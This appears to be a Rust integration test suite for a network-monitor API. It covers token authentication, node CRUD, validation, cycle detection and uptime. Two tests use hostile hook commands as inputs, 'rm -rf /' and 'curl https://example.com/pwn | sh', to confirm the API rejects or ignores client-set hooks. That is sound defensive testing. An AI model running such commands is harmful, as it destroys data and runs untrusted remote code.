@@ -0,0 +1,450 @@
+mod common;
+
+use chrono::{Duration, Utc};
+use common::{NodeBuilder, TestDatabase};
+use net_monitor::api::serve;
+use net_monitor::database::Database;
+use net_monitor::models::{CheckSample, HookCommands, NodeStatus, StatusChange};
+use net_monitor::monitoring_engine::NodeConfigUpdate;
+use reqwest::{Client, StatusCode};
+use serde_json::{json, Value};
+use std::sync::mpsc;
+
+const TOKEN: &str = "s3cret-token";
+
+/// Serves the API for `test_db` on a local port, returning its base URL and the
+/// updates it passes to the engine
+async fn start_api(test_db: &TestDatabase) -> (String, mpsc::Receiver<NodeConfigUpdate>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let base = format!("http://{}", listener.local_addr().unwrap());
+    let (config_tx, config_rx) = mpsc::channel();
+    tokio::spawn(serve(
+        listener,
+        Database::new(test_db.path()).unwrap(),
+        config_tx,
+        TOKEN.to_string(),
+    ));
+    (base, config_rx)
+}
+
+fn ping_body(name: &str, host: &str) -> Value {
+    json!({
+        "name": name,
+        "detail": {"type": "Ping", "host": host, "count": 1, "timeout": 1},
+        "monitoring_interval": 60,
+        "credential_id": null,
+    })
+}
+
+#[tokio::test]
+async fn test_health_needs_no_token() {
+    let test_db = TestDatabase::new();
+    let (base, _updates) = start_api(&test_db).await;
+
+    let response = reqwest::get(format!("{}/health", base)).await.unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    let body: Value = response.json().await.unwrap();
+    assert_eq!(body["status"], "ok");
+    assert_eq!(body["version"], env!("CARGO_PKG_VERSION"));
+}
+
+#[tokio::test]
+async fn test_requests_need_the_token() {
+    let test_db = TestDatabase::new();
+    let (base, _updates) = start_api(&test_db).await;
+    let client = Client::new();
+
+    let response = client.get(format!("{}/nodes", base)).send().await.unwrap();
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
+    assert_eq!(response.headers()["www-authenticate"], "Bearer");
+
+    let response = client
+        .get(format!("{}/nodes", base))
+        .bearer_auth("s3cret-tokem")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
+    let body: Value = response.json().await.unwrap();
+    assert_eq!(body["error"], "Missing or invalid API token");
+
+    // Nothing is changed without the token
+    let response = client
+        .post(format!("{}/nodes", base))
+        .json(&ping_body("Router", "10.0.0.1"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
+    assert!(test_db.db.get_all_nodes().unwrap().is_empty());
+
+    let response = client
+        .get(format!("{}/nodes", base))
+        .bearer_auth(TOKEN)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+}
+
+#[tokio::test]
+async fn test_node_crud() {
+    let test_db = TestDatabase::new();
+    let (base, updates) = start_api(&test_db).await;
+    let client = Client::new();
+
+    // Create
+    let response = client
+        .post(format!("{}/nodes", base))
+        .bearer_auth(TOKEN)
+        .json(&ping_body("Core Switch", "10.0.0.1"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::CREATED);
+    let switch: Value = response.json().await.unwrap();
+    let switch_id = switch["id"].as_i64().unwrap();
+    assert_eq!(switch["name"], "Core Switch");
+    assert_eq!(switch["detail"]["host"], "10.0.0.1");
+    assert!(matches!(
+        updates.try_recv().unwrap(),
+        NodeConfigUpdate::Add(node) if node.id == Some(switch_id)
+    ));
+
+    let mut body = ping_body("Office AP", "10.0.0.20");
+    body["parents"] = json!(["Core Switch"]);
+    body["group"] = json!("Office");
+    body["tags"] = json!(["Wifi"]);
+    let response = client
+        .post(format!("{}/nodes", base))
+        .bearer_auth(TOKEN)
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::CREATED);
+    let ap: Value = response.json().await.unwrap();
+    let ap_id = ap["id"].as_i64().unwrap();
+    assert_eq!(ap["parents"], json!(["Core Switch"]));
+    assert_eq!(ap["tags"], json!(["Wifi"]));
+    let stored = test_db.db.get_all_nodes().unwrap();
+    let stored_ap = stored.iter().find(|n| n.id == Some(ap_id)).unwrap();
+    assert_eq!(stored_ap.parents, vec![switch_id]);
+    assert!(matches!(
+        updates.try_recv().unwrap(),
+        NodeConfigUpdate::Add(node) if node.parents == vec![switch_id]
+    ));
+
+    // Read
+    let nodes: Value = client
+        .get(format!("{}/nodes", base))
+        .bearer_auth(TOKEN)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(nodes.as_array().unwrap().len(), 2);
+
+    let response = client
+        .get(format!("{}/nodes/{}", base, ap_id))
+        .bearer_auth(TOKEN)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    let mut ap: Value = response.json().await.unwrap();
+    assert_eq!(ap["group"], "Office");
+
+    // Update with the body read back, keeping the node's state
+    test_db
+        .db
+        .update_node(&{
+            let mut node = stored_ap.clone();
+            node.status = NodeStatus::Online;
+            node
+        })
+        .unwrap();
+    ap["name"] = json!("Lobby AP");
+    ap["parents"] = json!([]);
+    let response = client
+        .put(format!("{}/nodes/{}", base, ap_id))
+        .bearer_auth(TOKEN)
+        .json(&ap)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    let updated: Value = response.json().await.unwrap();
+    assert_eq!(updated["name"], "Lobby AP");
+    assert_eq!(updated["status"], "Online");
+    assert!(updated.get("parents").is_none());
+    assert!(matches!(
+        updates.try_recv().unwrap(),
+        NodeConfigUpdate::Update(node) if node.name == "Lobby AP" && node.parents.is_empty()
+    ));
+
+    // Delete
+    let response = client
+        .delete(format!("{}/nodes/{}", base, ap_id))
+        .bearer_auth(TOKEN)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::NO_CONTENT);
+    assert!(matches!(
+        updates.try_recv().unwrap(),
+        NodeConfigUpdate::Delete(id) if id == ap_id
+    ));
+    let response = client
+        .get(format!("{}/nodes/{}", base, ap_id))
+        .bearer_auth(TOKEN)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    let body: Value = response.json().await.unwrap();
+    assert_eq!(body["error"], format!("No node with ID {}", ap_id));
+}
+
+#[tokio::test]
+async fn test_invalid_nodes_are_rejected() {
+    let test_db = TestDatabase::new();
+    let (base, updates) = start_api(&test_db).await;
+    let client = Client::new();
+    let post = |body: Value| {
+        client
+            .post(format!("{}/nodes", base))
+            .bearer_auth(TOKEN)
+            .json(&body)
+            .send()
+    };
+
+    let response = post(ping_body("Router", "")).await.unwrap();
+    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+    let body: Value = response.json().await.unwrap();
+    assert_eq!(body["error"], "Node 'Router' has no target");
+
+    let mut body = ping_body("Router", "10.0.0.1");
+    body["parents"] = json!(["Nowhere"]);
+    let response = post(body).await.unwrap();
+    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+
+    let mut body = ping_body("Router", "10.0.0.1");
+    body["hooks"] = json!({"on_down": "rm -rf /"});
+    let response = post(body).await.unwrap();
+    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+    let body: Value = response.json().await.unwrap();
+    assert_eq!(body["error"], "Hook commands cannot be set through the API");
+
+    assert!(test_db.db.get_all_nodes().unwrap().is_empty());
+    assert!(updates.try_recv().is_err());
+}
+
+#[tokio::test]
+async fn test_dependency_cycles_are_rejected() {
+    let test_db = TestDatabase::new();
+    let switch = NodeBuilder::new()
+        .name("Core Switch")
+        .ping("10.0.0.1", 1, 1)
+        .build();
+    let switch_id = test_db.db.add_node(&switch).unwrap();
+    let mut ap = NodeBuilder::new()
+        .name("Office AP")
+        .ping("10.0.0.20", 1, 1)
+        .build();
+    ap.parents = vec![switch_id];
+    test_db.db.add_node(&ap).unwrap();
+    let (base, updates) = start_api(&test_db).await;
+    let client = Client::new();
+    let put = |parents: Value| {
+        let mut body = ping_body("Core Switch", "10.0.0.1");
+        body["parents"] = parents;
+        client
+            .put(format!("{}/nodes/{}", base, switch_id))
+            .bearer_auth(TOKEN)
+            .json(&body)
+            .send()
+    };
+
+    for (parents, error) in [
+        (
+            json!(["Core Switch"]),
+            "'Core Switch' can't depend on itself",
+        ),
+        (
+            json!(["Office AP"]),
+            "'Core Switch' can't depend on 'Office AP', which already depends on it",
+        ),
+    ] {
+        let response = put(parents).await.unwrap();
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+        let body: Value = response.json().await.unwrap();
+        assert_eq!(body["error"], error);
+    }
+    assert!(updates.try_recv().is_err());
+}
+
+#[tokio::test]
+async fn test_update_keeps_hooks() {
+    let test_db = TestDatabase::new();
+    let mut node = NodeBuilder::new()
+        .name("Router")
+        .ping("10.0.0.1", 1, 1)
+        .build();
+    node.hooks = HookCommands {
+        on_down: Some("/usr/local/bin/power-cycle".to_string()),
+        ..HookCommands::default()
+    };
+    let id = test_db.db.add_node(&node).unwrap();
+    let (base, _updates) = start_api(&test_db).await;
+    let client = Client::new();
+
+    let mut body: Value = client
+        .get(format!("{}/nodes/{}", base, id))
+        .bearer_auth(TOKEN)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(body["hooks"]["on_down"], "/usr/local/bin/power-cycle");
+
+    body["monitoring_interval"] = json!(30);
+    let response = client
+        .put(format!("{}/nodes/{}", base, id))
+        .bearer_auth(TOKEN)
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+
+    // Changed hooks are ignored
+    body["hooks"]["on_down"] = json!("curl https://example.com/pwn | sh");
+    body["retry_interval"] = json!(20);
+    let response = client
+        .put(format!("{}/nodes/{}", base, id))
+        .bearer_auth(TOKEN)
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+
+    // And so are left out ones
+    body.as_object_mut().unwrap().remove("hooks");
+    body["max_check_attempts"] = json!(5);
+    let response = client
+        .put(format!("{}/nodes/{}", base, id))
+        .bearer_auth(TOKEN)
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    let updated: Value = response.json().await.unwrap();
+    assert_eq!(updated["hooks"]["on_down"], "/usr/local/bin/power-cycle");
+
+    let stored = &test_db.db.get_all_nodes().unwrap()[0];
+    assert_eq!(stored.monitoring_interval, 30);
+    assert_eq!(stored.retry_interval, 20);
+    assert_eq!(stored.max_check_attempts, 5);
+    assert_eq!(
+        stored.hooks.on_down.as_deref(),
+        Some("/usr/local/bin/power-cycle")
+    );
+}
+
+#[tokio::test]
+async fn test_status_changes_and_uptime() {
+    let test_db = TestDatabase::new();
+    let node = NodeBuilder::new()
+        .name("Router")
+        .ping("10.0.0.1", 1, 1)
+        .build();
+    let id = test_db.db.add_node(&node).unwrap();
+    let now = Utc::now();
+    for (from_status, to_status, ago) in [
+        (NodeStatus::Online, NodeStatus::Offline, 2),
+        (NodeStatus::Offline, NodeStatus::Online, 1),
+    ] {
+        test_db
+            .db
+            .add_status_change(&StatusChange {
+                id: None,
+                node_id: id,
+                from_status,
+                to_status,
+                changed_at: now - Duration::hours(ago),
+                duration_ms: None,
+                in_maintenance: false,
+            })
+            .unwrap();
+    }
+    test_db
+        .db
+        .add_check_sample(&CheckSample {
+            node_id: id,
+            checked_at: now - Duration::minutes(30),
+            success: true,
+            response_time: Some(12),
+        })
+        .unwrap();
+    let (base, _updates) = start_api(&test_db).await;
+    let client = Client::new();
+    let get = |path: String| {
+        client
+            .get(format!("{}{}", base, path))
+            .bearer_auth(TOKEN)
+            .send()
+    };
+
+    let changes: Value = get(format!("/nodes/{}/status-changes", id))
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(changes.as_array().unwrap().len(), 2);
+    assert_eq!(changes[0]["to_status"], "Online");
+    let changes: Value = get(format!("/nodes/{}/status-changes?limit=1", id))
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(changes.as_array().unwrap().len(), 1);
+
+    // Offline for one hour of the four
+    let from = (now - Duration::hours(4)).to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
+    let to = now.to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
+    let uptime: Value = get(format!("/nodes/{}/uptime?from={}&to={}", id, from, to))
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(uptime["node_id"], id);
+    let percentage = uptime["uptime_percentage"].as_f64().unwrap();
+    assert!((percentage - 75.0).abs() < 0.1, "{}", percentage);
+
+    let response = get(format!("/nodes/{}/uptime?from={}&to={}", id, to, from))
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+
+    let response = get("/nodes/999/status-changes".to_string()).await.unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+
+    let results: Value = get(format!("/nodes/{}/results", id))
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(results.as_array().unwrap().len(), 1);
+    assert_eq!(results[0]["response_time"], 12);
+}